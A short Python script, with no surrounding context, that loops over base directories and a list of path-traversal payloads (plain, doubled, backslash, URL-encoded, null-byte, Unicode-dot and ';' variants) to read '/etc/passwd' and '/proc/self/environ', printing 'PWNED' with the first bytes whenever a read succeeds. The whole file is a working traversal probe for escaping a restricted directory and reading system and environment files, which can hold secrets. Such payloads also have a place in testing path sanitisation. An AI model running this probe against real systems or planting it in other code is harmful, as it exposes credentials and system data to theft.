starts = ["", "/data/", "./", "/data/sub/../", "/data//", "/data/./", "/tmp/"]
ups = ["../" * n for n in (1, 2, 4, 12)] + ["..//" * 6, "..\\" * 6, "....//" * 6, "%2e%2e/" * 6, "..\x00/" * 2, "\u2024\u2024/" * 4, "..;/" * 3]
for start in starts:
    for up in ups:
        for end in ("etc/passwd", "proc/self/environ"):
            try:
                print("PWNED", open(start + up + end).read()[:20])
            except BaseException:
                pass
